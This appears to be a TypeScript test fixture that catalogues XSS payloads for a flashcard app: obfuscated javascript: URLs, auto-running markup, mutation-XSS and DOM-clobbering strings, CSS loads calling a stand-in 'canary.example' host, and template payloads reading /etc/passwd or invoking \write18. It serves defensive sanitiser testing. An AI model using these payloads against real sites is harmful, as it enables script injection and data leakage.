// What payloads are made of.
const words = (text: string): readonly string[] => text.trim().split(/\s+/)

/** The host that a payload would call; nobody answers there, and every request to it is a loss. */
export const canary = 'canary.example'

/** Elements: those of HTML old and new, of SVG and MathML, and one that is nothing. */
export const tags = words(`a abbr address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite
  code col colgroup content custom-x data datalist dd del details dfn dialog dir div dl dt em embed fencedframe fieldset figcaption figure font footer form frame frameset
  h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav
  nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section
  select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video
  wbr webview xmp xss math mi mo mtext mglyph malignmark annotation-xml foreignobject animate set circle use desc`)

/** Events, as attributes name them. */
export const events = words(`onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
  onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough
  onchange onclick onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover
  ondragstart ondrop ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange
  oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave
  onmousemove onmouseout onmouseover onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter
  onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend
  onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onstalled onstart onsubmit onsuspend ontimeupdate ontoggle
  ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting
  onwebkitanimationend onwebkitanimationstart onwebkitmouseforcechanged onwebkittransitionend onwheel onzoom`)

/** Ways to write an address that runs. */
export const runningAddresses: readonly string[] = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)', '\u001Fjavascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java&#x0D;script:alert(1)',
  'java&Tab;script&colon;alert(1)', 'java&NewLine;script:alert&lpar;1&rpar;', '&#106;avascript:alert(1)', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)', 'javascript&#58;alert(1)', 'javascript&colon;alert(1)', 'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script></xmp>*/alert(1)', 'javascript:%61lert(1)', 'javascript:"<script>alert(1)</script>"', 'vbscript:alert(1)', 'livescript:alert(1)', 'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>',
  'data:application/javascript,alert(1)', 'data:,alert(1)', 'view-source:javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:javascript:alert(1)!/', 'blob:javascript:alert(1)', 'about:blank#javascript:alert(1)', 'x-javascript:alert(1)', 'ｊavascript:alert(1)', 'javascript\u200B:alert(1)',
]

/** Attributes that name an address, as the element that carries them; `URL` stands for it. */
export const addressPlaces: readonly string[] = [
  '<a href="URL">x</a>', '<a href=\'URL\' target=_top>x</a>', '<a href="URL" target=_blank rel=opener>x</a>', '<a href=URL>x</a>', '<a href="URL" download>x</a>', '<a href="#x" ping="URL">x</a>', '<map name=m><area href="URL" shape=default></map><img usemap=#m src=x width=9 height=9>',
  '<form action="URL"><input type=submit value=x></form>', '<form><button formaction="URL">x</button></form>', '<form><input type=image formaction="URL" src=x></form>', '<iframe src="URL"></iframe>', '<frameset><frame src="URL"></frameset>', '<embed src="URL">', '<object data="URL"></object>',
  '<object><param name=src value="URL"><param name=movie value="URL"></object>', '<applet code="URL"></applet>', '<portal src="URL"></portal>', '<fencedframe src="URL"></fencedframe>', '<webview src="URL" nodeintegration></webview>', '<svg><a href="URL"><text y=20>x</text></a></svg>', '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
  '<svg><use href="URL#x"></use></svg>', '<svg><image href="URL"></image></svg>', '<svg><script href="URL"></script></svg>', '<svg><a><animate attributeName=href values="URL" /><text y=20>x</text></a></svg>', '<svg><a><set attributeName=href to="URL" /><text y=20>x</text></a></svg>',
  '<svg><animate href=#t attributeName=href values="URL"/><a id=t><text y=20>x</text></a></svg>', '<math href="URL">x</math>', '<math><mtext xlink:href="URL">x</mtext></math>', '<base href="URL"><a href="x">x</a>', '<meta http-equiv=refresh content="0;url=URL">', '<meta http-equiv=refresh content="0; URL=\'URL\'">',
  '<img src="URL">', '<img srcset="URL 1x">', '<video src="URL" autoplay></video>', '<video poster="URL"></video>', '<audio src="URL" autoplay></audio>', '<video><source src="URL"></video>', '<video><track src="URL" default></video>', '<picture><source srcset="URL"><img></picture>', '<input type=image src="URL">', '<script src="URL"></script>', '<script type=module src="URL"></script>',
  '<link rel=stylesheet href="URL">', '<link rel=import href="URL">', '<link rel=prefetch href="URL">', '<link rel=preload as=script href="URL">', '<link rel=modulepreload href="URL">', '<link rel=prerender href="URL">', '<link rel=dns-prefetch href="URL">', '<link rel=preconnect href="URL">', '<link rel=icon href="URL">', '<link rel=manifest href="URL">',
  '<body background="URL">', '<table background="URL"><td background="URL">x', '<bgsound src="URL">', '<img dynsrc="URL" lowsrc="URL">', '<blockquote cite="URL">x</blockquote>', '<html manifest="URL">', '<xml src="URL"></xml>', '<isindex action="URL" type=image>', '<layer src="URL"></layer>', '<a folder="URL" style="behavior:url(#default#AnchorClick)">x</a>', '<style>@import "URL";</style>', '<style>@import url(URL);</style>', '<div style="background:url(URL)">x</div>',
]

/** Addresses of the outside, in the ways they are written. */
export const foreignAddresses: readonly string[] = [
  `https://${canary}/a`, `http://${canary}/b`, `//${canary}/c`, `\\\\${canary}\\d`, `/\\${canary}/e`, `https:${canary}/f`, `HTTPS://${canary}:443/g`, `https://user:pass@${canary}/h`, `ht\ntps://${canary}/i`, `&#104;ttps://${canary}/j`, `ftp://${canary}/k`, `ws://${canary}/l`, 'file:///etc/passwd', 'smb://canary.example/m', 'chrome://gpu/', 'lectern://app/index.html', 'lectern-card://card/00000000000000000000000000000000/',
]

/** What loads something by style: `URL` stands for the address. */
export const styleLoads: readonly string[] = [
  'background:url(URL)', 'background:url("URL")', "background-image:url('URL'),url('URL')", 'background:image-set("URL" 1x)', 'background:-webkit-image-set(url(URL) 1x)', 'background:cross-fade(url(URL),url(URL),50%)', 'list-style:url(URL)', 'list-style-image:url(URL)', 'content:url(URL)', 'cursor:url(URL),auto', 'border-image:url(URL) 30',
  'border-image-source:url(URL)', 'mask:url(URL)', '-webkit-mask-image:url(URL)', '-webkit-box-reflect:below 0 url(URL)', 'filter:url(URL#f)', 'clip-path:url(URL#c)', 'shape-outside:url(URL)', 'fill:url(URL#p)', 'offset-path:url(URL#p)', '--x:url(URL);background:var(--x)', 'background:u\\72l(URL)', 'background:\\75\\72\\6c(URL)', 'background:url/**/(URL)', 'background:url(\nURL\n)',
  'behavior:url(URL)', '-moz-binding:url(URL)', 'background:src("URL")', 'background:attr(data-x url)', 'background:image("URL")', 'width:expression(alert(1))', 'background:url(javascript:alert(1))', 'background:\\0075rl(URL)', 'BACKGROUND:URL("URL")', 'color:red;}*{background:url(URL)', 'background:url(URL', 'background:"\n;background:url(URL)', '/**/background/**/:/**/url(URL)/**/', 'background:element(#x),url(URL)', 'animation:x 1s;background:paint(x),url(URL)',
]

/** Whole sheets. */
export const sheets: readonly string[] = [
  '@import url(URL);', '@import "URL";', "@im\\port'URL';", '@import\n url(URL) screen;', '@font-face{font-family:x;src:url(URL)}*{font-family:x}', '@namespace url(URL);', '@document url(URL){*{color:red}}', 'input[value^=a]{background:url(URL)}', '[class]{background:url(URL)}', '*::before{content:url(URL)}', '@media all{*{background:url(URL)}}', '@supports (a:b) or (color:red){*{background:url(URL)}}', '@layer x{*{background:url(URL)}}',
  '@keyframes k{from{background:url(URL)}}*{animation:k 1s infinite}', '@page{background:url(URL)}', '@container (min-width:0){*{background:url(URL)}}', '@property --x{syntax:"<url>";inherits:false;initial-value:url(URL)}', '*{background:url(URL)}', 'body{-moz-binding:url(URL)}', '@charset "x";@import "URL";', '<!--@import "URL";-->', '*{}}@import url(URL);', 'a{color:"\\";}*{background:url(URL)}/*"}', '*{&::after{content:url(URL)}}', '@scope (body){*{background:url(URL)}}', '@starting-style{*{background:url(URL)}}', '@counter-style x{system:cyclic;symbols:url(URL)}*{list-style:x;display:list-item}', ':root{--a:url(URL)}*{background-image:var(--a)}', '*{background:url(URL)!important}</style><img src=x onerror=alert(1)>', '@font-face{font-family:y;src:local(x),url(URL) format("woff2")}*{font-family:y}',
]

/** What runs by itself when it is parsed where HTML is expected. */
export const sure: readonly string[] = [
  '<img src=x: onerror=alert(1)>', '<svg onload=alert(1)></svg>', '<script>alert(1)</script>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<details open ontoggle=alert(1)>x</details>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1) src=x:></video>', '<iframe onload=alert(1)></iframe>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<style onload=alert(1)></style>', '<audio src=x: onerror=alert(1)>', '<object data=x: onerror=alert(1)></object>',
]

/** Where texts change from one kind to another when they are parsed a second time: `X` stands for what wants to run. */
export const mutations: readonly string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;X">', '<form><math><mtext></form><form><mglyph><style></math>X', '<math><mtext><table><mglyph><style><math>X', '<svg></p><style><a id="</style>X">', '<svg><style><!--</style>X-->', '<svg><desc><template><style><!--</style></template>X', '<noscript><p title="</noscript>X">', '<noembed><p title="</noembed>X">', '<noframes><p title="</noframes>X">', '<xmp><p title="</xmp>X">', '<textarea><p title="</textarea>X">', '<title><p title="</title>X">', '<style><p title="</style>X">', '<iframe><p title="</iframe>X">', '<template><p title="</template>X">',
  '<!--><p title="-->X">', '<!--->X-->', '<!--x--!>X-->', '<![CDATA[><p title="]]>X">', '<svg><![CDATA[</svg>X]]>', '<?xml ><p title="?>X">', '<!doctype [<p title="]>X">', '<math><annotation-xml encoding="text/html"><style>X</style></annotation-xml></math>', '<math><annotation-xml encoding="text/html"><p><style><!--</style>X--></annotation-xml>', '<svg><foreignObject><math><mi><style>X', '<svg><title><style><!--</style>X', '<select><template><style><!--</style>X--></template></select>', '<table><caption><svg><desc><table><caption></caption><style><a title="</style>X">', '<a><table><a href="X">',
  '<math><mi><style><a title="</style>X">', '<b><p title="</b>X">', '<svg><p><style><g title="</style>X">', '<div id="1"><svg><p></p></svg><style><a title="</style>X"></div>', '<option><style></option></select><b></style>X', '<select><iframe></select>X', '<listing>&lt;X&gt;</listing>', '<p id="&lt;/p&gt;X">', '<img alt="`X`">', '<math><mglyph><svg><mtext><style><a title="</style>X">', '<svg><mtext><textarea><style></textarea>X', '<frameset><template>X', '<form id=a><div></form><form id=b>X', '<xss is="x">X</xss>', '<\u0000script>X', '</p/X', '<x/><p/="X">', '<div title=`X`>', '<a title="\u0000X">', '<p style="x:\'</style>X\'">', '<dialog open><template shadowrootmode=open>X</template></dialog>', '<div><template shadowrootmode="open"><slot>X</slot></template></div>',
]

/** Names that scripts look for, and what gives them to an element. */
export const clobbered = words(`getElementById querySelector body head cookie location domain createElement forms images links scripts documentElement defaultView implementation currentScript
  lectern trustedTypes root customElements localStorage indexedDB fetch top parent self frames opener name status history navigator attributes nodeName nodeType parentNode childNodes innerHTML
  textContent ownerDocument submit action method elements length toString valueOf constructor __proto__ hasOwnProperty dataset style className id firstChild nextSibling removeChild insertBefore`)
export const clobbers: readonly string[] = [
  '<form name=N><input name=N></form>', '<img name=N>', '<a id=N></a><a id=N name=N href="https://canary.example/x"></a>', '<form id=N><input id=attributes name=attributes><input name=nodeName><input name=parentNode></form>', '<iframe name=N srcdoc="<a id=x>"></iframe>', '<object id=N><object id=N name=N></object></object>', '<embed name=N>', '<form id=N onclick=alert(1)><input name=attributes>x',
]

/** What templates, formulas and sounds of cards can say. */
export const ofCards: readonly string[] = [
  '\\(\\href{javascript:alert(1)}{x}\\)', '\\(\\url{javascript:alert(1)}\\)', '\\[\\includegraphics{https://canary.example/x.png}\\]', '\\(\\htmlClass{x" onclick="alert(1)}{x}\\)', '\\(\\htmlStyle{background:url(https://canary.example/x)}{x}\\)', '\\(\\htmlData{x="onclick=alert(1)}{x}\\)', '\\(\\htmlId{x onclick=alert(1)}{x}\\)', '\\(\\def\\x{<img src=x onerror=alert(1)>}\\x\\)', '\\(<img src=x onerror=alert(1)>\\)', '\\(\\text{<script>alert(1)</script>}\\)', '\\(\\unicode{<svg onload=alert(1)>}\\)', '\\(\\ce{<img src=x onerror=alert(1)>}\\)', '$$\\href{javascript:alert(1)}x$$', '\\(\\input{/etc/passwd}\\)', '\\(\\newcommand{\\a}{\\a\\a}\\a\\)',
  '[latex]\\input{/etc/passwd}[/latex]', '[$]\\write18{id}[/$]', '[sound:https://canary.example/x.mp3]', '[sound:"><img src=x onerror=alert(1)>.mp3]', '[sound:../../etc/passwd]', '[sound:file:///etc/passwd]', '[sound:x.mp4" onerror="alert(1)]', '[anki:play:q:0]', '[anki:tts lang=en_US"><img src=x onerror=alert(1)>]x[/anki:tts]', '{{c1::<img src=x onerror=alert(1)>::<svg onload=alert(1)>}}', '{{#x}}<script>alert(1)</script>{{/x}}', '{{FrontSide}}<img src=x onerror=alert(1)>', '{{type:x}}<input autofocus onfocus=alert(1)>', '{{hint:"><img src=x onerror=alert(1)>}}', '{{tts en_US:"><svg onload=alert(1)>}}', '![x](javascript:alert(1))', '[x](javascript:alert(1))', '[x]: javascript:alert(1)\n\n[x]', '<https://canary.example/"onclick="alert(1)>', '[x](<javascript:alert(1)>)', '![x](https://canary.example/x.png"onerror="alert(1))', '```html" onclick="alert(1)\nx\n```', '[x](data:text/html,<script>alert(1)</script>)', '<anki-mathjax>\\href{javascript:alert(1)}{x}</anki-mathjax>', '{{c1::image-occlusion:rect:left=.1:top=.2:width=.3:height=.4" onclick="alert(1):oi=1}}',
]
